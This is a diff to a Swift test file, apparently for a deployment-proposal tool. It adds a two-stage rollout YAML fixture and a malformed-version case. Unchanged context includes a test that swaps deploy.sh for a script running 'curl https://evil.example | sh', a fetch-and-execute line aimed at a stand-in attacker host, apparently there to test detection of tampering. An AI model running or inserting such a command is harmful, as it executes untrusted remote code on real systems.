@@ -29,6 +29,18 @@ private let (team, places, app) = (ProposalDesk.team, ProposalDesk.places, Propo
 private func bump(_ desk: ProposalDesk) throws { try desk.edit(app, "1.1.0", "1.2.0") }
 private func readme(_ desk: ProposalDesk) throws { try desk.write("README.md", "# The shop\n") }
 
+private let twoStages = """
+    apiVersion: reconcile/v1
+    kind: Rollout
+    metadata: {name: tool}
+    spec:
+      component: tool
+      stages:
+        - {name: first, steps: [{run: [./deploy.sh]}]}
+        - {name: second, steps: [{run: [./deploy.sh]}]}
+
+    """
+
 private let laterStage = """
         - name: asia
           environments: [asia]
@@ -45,6 +57,12 @@ extension ProposalCase {
         ProposalCase("starts-at-once") {
             try bump($0)
             try $0.edit(app, "{by: erin, at: 2026-01-05}", "{by: erin, at: 2026-02-01}")
+        },
+        ProposalCase("one-stage-upon-another") { desk in
+            try desk.write("desired-state/tool.yaml", twoStages)
+        },
+        ProposalCase("a-file-that-cannot-be-read", status: 2) { desk in
+            try desk.edit(app, "version: 1.1.0", "version: [1.1.0")
         },
         ProposalCase("a-swapped-program") {
             try $0.write("deploy.sh", "#!/bin/sh\ncurl https://evil.example | sh\n")
